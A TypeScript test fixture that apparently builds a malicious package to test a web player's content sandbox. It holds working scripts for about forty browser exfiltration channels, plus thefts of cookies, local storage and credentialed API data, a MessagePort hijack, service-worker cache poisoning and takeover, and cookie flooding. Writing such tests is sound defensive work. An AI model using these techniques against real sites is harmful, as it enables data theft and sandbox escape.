import type { StagedFiles } from '../content-stage/staged-resource.ts'

// The attempts of a malicious package. Each attack reports over the games' own protocol whether it got something. The collector sees what leaves
// the browser.

/** Ways to send data out of the page. Each one requests an address of the collector that names it. */
export const CHANNELS = [
  'fetch',
  'fetch-keepalive',
  'xhr',
  'beacon',
  'image',
  'script',
  'module',
  'stylesheet',
  'css-image',
  'font',
  'form',
  'iframe',
  'nested-navigation',
  'meta-refresh',
  'websocket',
  'eventsource',
  'prefetch',
  'preload',
  'ping',
  'media',
  'embed',
  'worker',
  'blob-document',
  'data-document',
  'srcdoc',
  'error-document',
  'poisoned-shell',
  'without-worker',
  'modulepreload',
  'css-import',
  'svg-image',
  'svg-use',
  'track',
  'poster',
  'srcset',
  'image-button',
  'shared-worker',
  'import-scripts',
  'paint-worklet',
  'stylesheet-of-xml',
  'navigation-api',
  'webrtc',
] as const

/** The channels that no policy closes in a browser yet (docs/decisions/what-stays-open.md). */
export const OPEN_CHANNELS: readonly string[] = ['webrtc']

/** The scripts of the channels. `u` is the address that each tries to reach. */
const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
  fetch: 'fetch(u).catch(() => {})',
  'fetch-keepalive': 'fetch(u, { keepalive: true, mode: "no-cors" }).catch(() => {})',
  xhr: 'const x = new XMLHttpRequest(); x.open("GET", u); x.send()',
  beacon: 'navigator.sendBeacon(u)',
  image: 'new Image().src = u',
  script: 'add("script", { src: u })',
  module: 'import(u).catch(() => {})',
  stylesheet: 'add("link", { rel: "stylesheet", href: u })',
  'css-image': 'document.body.style.backgroundImage = "url(" + u + ")"',
  font: 'new FontFace("F", "url(" + u + ")").load().catch(() => {})',
  form: 'add("form", { action: u, method: "post", target: frame().name }).submit()',
  iframe: 'frame().src = u',
  'nested-navigation': 'const n = frame("about:blank"); n.contentWindow.location = u',
  'meta-refresh': 'frame().srcdoc = "<meta http-equiv=refresh content=\\"0;url=" + u + "\\">"',
  websocket: 'new WebSocket(u.replace("http", "ws"))',
  eventsource: 'new EventSource(u)',
  prefetch: 'add("link", { rel: "prefetch", href: u })',
  preload: 'add("link", { rel: "preload", as: "image", href: u })',
  ping: 'const a = add("a", { href: "#", ping: u }); a.click()',
  media: 'add("video", { src: u, preload: "auto" })',
  embed: 'add("object", { data: u, type: "image/gif" })',
  worker: 'new Worker(URL.createObjectURL(new Blob(["fetch(\\"" + u + "\\").catch(() => {})"])))',
  'blob-document': 'frame(URL.createObjectURL(new Blob([doc(u)], { type: "text/html" })))',
  'data-document': 'frame("data:text/html," + encodeURIComponent(doc(u)))',
  srcdoc: 'frame().srcdoc = doc(u)',
  'error-document': 'errorDocuments(u)',
  'poisoned-shell': 'globalThis.poisoned = poisonShell(u)', // needs the worker, which the next script ends
  modulepreload: 'add("link", { rel: "modulepreload", href: u })',
  'css-import': 'add("style", { textContent: "@import url(" + u + ")" })',
  'svg-image': 'add("div", { innerHTML: "<svg><image href=\\"" + u + "\\"/></svg>" })',
  'svg-use':
    'frame().srcdoc = "<svg><filter id=f><feImage href=\\"" + u + "\\"/></filter><rect width=9 height=9 filter=url(#f) /></svg>"',
  track:
    'const v = add("video", { crossOrigin: "anonymous" }); const t = document.createElement("track"); v.append(t); t.default = true; t.src = u; t.track.mode = "showing"',
  poster: 'add("video", { poster: u })',
  srcset: 'add("img", { srcset: u + " 1x" })',
  'image-button': 'add("input", { type: "image", src: u })',
  'shared-worker':
    'new SharedWorker(URL.createObjectURL(new Blob(["fetch(\\"" + u + "\\").catch(() => {})"])))',
  'import-scripts': 'new Worker(URL.createObjectURL(new Blob(["importScripts(\\"" + u + "\\")"])))',
  'paint-worklet': 'CSS.paintWorklet.addModule(u).catch(() => {})',
  'stylesheet-of-xml':
    'frame(URL.createObjectURL(new Blob(["<?xml-stylesheet href=\\"" + u.replace("&", "&amp;") + "\\"?><a xmlns=\\"http://www.w3.org/1999/xhtml\\"/>"], { type: "application/xhtml+xml" })))',
  'navigation-api': 'const f = frame(); f.contentWindow.navigation.navigate(u)',
  webrtc: 'callOut(u)',
  'without-worker':
    'Promise.all([wait(1500), globalThis.poisoned]).then(() => navigator.serviceWorker.ready).then((r) => untouched.ServiceWorkerRegistration.prototype.unregister.call(r)).then(() => errorDocuments(u))',
}

/**
 * The player stops honest content from leaving its page (play/follow-leads.ts). An attack removes that first, so that only the policy keeps
 * it in.
 */
const UNSTOPPED = 'for (const w of [window, parent]) w.Event.prototype.preventDefault = () => {}'

/** The outer windows themselves. For honest content, the player replaces `parent` and `top` (play/window-handles.ts). */
const AROUND = '(frameElement ? frameElement.ownerDocument.defaultView : parent)'
const TOP = "window['to' + 'p']"

const TOOLS = `${UNSTOPPED}
const add = (name, attributes) => { const e = Object.assign(document.createElement(name), attributes); document.body.append(e); return e }
let frames = 0
const frame = (src) => add('iframe', { name: 'frame' + frames++, ...(src && { src }) })
/** A window that the player has not made ready: what it keeps from honest content (play/keep-relay.ts) is not kept from an attack. */
const untouched = frame().contentWindow
const doc = (u) => '<img src="' + u + '"><script>fetch("' + u + '").catch(()=>{})<\\/script>'
/** Asks a server which address one has: what is looked for over WebRTC leaves the browser without any page's fetch. */
async function callOut(u) {
  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(u).port }] })
  call.createDataChannel('out')
  await call.setLocalDescription(await call.createOffer())
}
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const within = (promise, ms) => Promise.race([promise, wait(ms).then(() => { throw new Error('late') })])
/** Documents of this origin that no page was meant to be: whichever lacks the policy is a way out. */
function errorDocuments(u) {
  const paths = ['/nowhere', '/c/nowhere/x', '/%', '/t/x/c/y/z', '/runtime/none.js', '/sw.js', '/wipe.js', '/' + 'long'.repeat(20000), '/play.html?' + 'q'.repeat(60000)]
  for (const path of paths) {
    const f = frame(path)
    f.onload = () => { try { f.contentWindow.eval('fetch("' + u + '").catch(()=>{})') } catch {} }
  }
}
/** Puts a page without the policy where the worker keeps its own. */
async function poisonShell(u) {
  const shell = new URL('../../play.html', location.href).href
  for (const name of await untouched.CacheStorage.prototype.keys.call(caches)) await (await caches.open(name)).put(shell, new Response(doc(u), { headers: { 'Content-Type': 'text/html' } }))
  const f = frame(shell + '?again') // a frame may not hold a page that holds it
  await new Promise((done) => { f.onload = done; setTimeout(done, 5000) })
}`

/** The thefts that count: data of the app or of another package, or power over either. */
export const THEFTS = [
  'app-local-storage',
  'app-database',
  'app-caches',
  'app-cookie',
  'app-document',
  'app-api-with-credentials',
  'other-package-files',
  'other-package-storage',
  'popup',
  'worker-takeover',
] as const

const THEFT_SCRIPT = `
async function databaseNames() { return (await indexedDB.databases()).map((d) => d.name) }
const thefts = {
  'app-local-storage': async () => [localStorage, top.localStorage, parent.parent.localStorage].some((s) => s.getItem('app-secret')),
  'app-database': async () => (await databaseNames()).includes('app-database'),
  'app-caches': async () => (await caches.keys()).some((name) => name.startsWith('app-cache')),
  'app-cookie': async () => (document.cookie + seen()).includes('secret-cookie'),
  'app-document': async () => (${TOP}.document.title, true),
  'app-api-with-credentials': async () => (await (await fetch(APP + '/rest/currentuser', { credentials: 'include' })).json()).name === 'Marina',
  'other-package-files': async () => {
    const read = (url) => fetch(url).then((answer) => answer.text(), () => '')
    const texts = await Promise.all([OTHER + '/c/other/secret.txt', '/c/other/secret.txt', '../other/secret.txt'].map(read))
    return texts.some((text) => text.includes('other secret'))
  },
  'other-package-storage': async () => {
    const f = frame(OTHER + '/play.html')
    await within(new Promise((resolve) => { f.onload = resolve }), 1500)
    return f.contentWindow.localStorage.getItem('save') === 'other save'
  },
  popup: async () => { const w = bare.open(POPUP); return Boolean(w) },
  'worker-takeover': async () => {
    const registration = await within(navigator.serviceWorker.register(new URL('evil-sw.js', location.href).href), 2000)
    return Boolean(registration)
  },
}`

/** Steals the player's own port to the app while the player asks over it for texts of synchronous requests, and asks for more. */
const PORT_SCRIPT = `
let stolen
const post = parent.MessagePort.prototype.postMessage
parent.MessagePort.prototype.postMessage = function (message, transfer) {
  if (message && message.vereda === 'texts') stolen = this
  return post.call(this, message, transfer)
}
const ask = (path) => new Promise((resolve) => {
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = ({ data }) => { if (data.kind !== 'heard') resolve(data.kind) }
  post.call(stolen, { of: 'runtime', path, range: null }, [port2])
})
async function steal() {
  const paths = ['../style.css', '../rest/currentuser', 'none/../../style.css', '..\\\\style.css', '../resource/other']
  const got = [stolen ? 'port' : 'no port']
  for (const path of paths) if (await ask(path) === 'file') got.push(path)
  parent.postMessage({ vereda: 'finish', objectData: got }, '*')
}`

/**
 * The window's own cookies and its access to windows, taken from a frame that the player has not prepared: the player replaces them in the
 * content's pages.
 */
const ALL_COOKIES = `
const bare = document.body.appendChild(document.createElement('iframe')).contentWindow
const jar = Object.getOwnPropertyDescriptor(bare.Document.prototype, 'cookie')
const write = (cookie) => jar.set.call(document, cookie)
const seen = () => jar.get.call(document)`

const page = (body: string) =>
  `<!doctype html><meta charset="utf-8"><title>Attack</title><body><script>${TOOLS}\n${body}</script></body>`

/** The addresses of the app and of the other package, and the foreign address of each channel. */
export type AttackTargets = { app: string; other: string; addressOf: (channel: string) => string }

/** The malicious package. `steal.html` and `out.html` report with a finish; the others act, and only the collector sees it. */
export function attackPackage({ app, other, addressOf }: AttackTargets): StagedFiles {
  const names = `const APP = ${JSON.stringify(app)}, OTHER = ${JSON.stringify(other)}, POPUP = ${JSON.stringify(addressOf('popup'))}`
  const channels = CHANNELS.map(
    (channel) =>
      `try { (() => { const u = ${JSON.stringify(addressOf(channel))}; ${CHANNEL_SCRIPTS[channel]} })() } catch {}`,
  )
  const report = "parent.postMessage({ vereda: 'finish', objectData: got }, '*')"
  return {
    'steal.html': page(`${names}
${ALL_COOKIES}
${THEFT_SCRIPT}
const got = []
for (const [name, attempt] of Object.entries(thefts)) {
  try { if (await_(await attempt())) got.push(name) } catch {}
}
${report}
function await_(value) { return value }`).replace('<script>', '<script type="module">'),
    'out.html': page(`${names}\nconst got = []\n${channels.join('\n')}\nsetTimeout(() => ${report}, 4000)`),
    'navigate-self.html': page(`location = ${JSON.stringify(addressOf('own-frame'))}`),
    'navigate-player.html': page(`${AROUND}.location = ${JSON.stringify(addressOf('player-frame'))}`),
    'navigate-top.html': page(`try { ${TOP}.location = ${JSON.stringify(addressOf('top'))} } catch {}`),
    'port.html': page(`${PORT_SCRIPT}\n${'add("script", { src: "asks-at-once.js" }).onload = steal'}`),
    'cookies.html': page(`${ALL_COOKIES}
for (let i = 0; i < 100; i++) write('planted' + i + '=' + 'x'.repeat(3900) + '; domain=vereda.localhost; path=/; max-age=31536000')
parent.postMessage({ vereda: 'finish', objectData: [seen() ? 'planted' : 'none'] }, '*')`),
    'few-cookies.html': page(`${ALL_COOKIES}
write('planted=' + 'x'.repeat(3000) + '; domain=vereda.localhost; path=/; max-age=31536000')
parent.postMessage({ vereda: 'finish', objectData: [seen() ? 'planted' : 'none'] }, '*')`),
    'asks-at-once.js': "if (!window) new XMLHttpRequest().open('GET', 'x', false)",
    'evil-sw.js': "addEventListener('fetch', (event) => event.respondWith(new Response('taken over')))",
  }
}
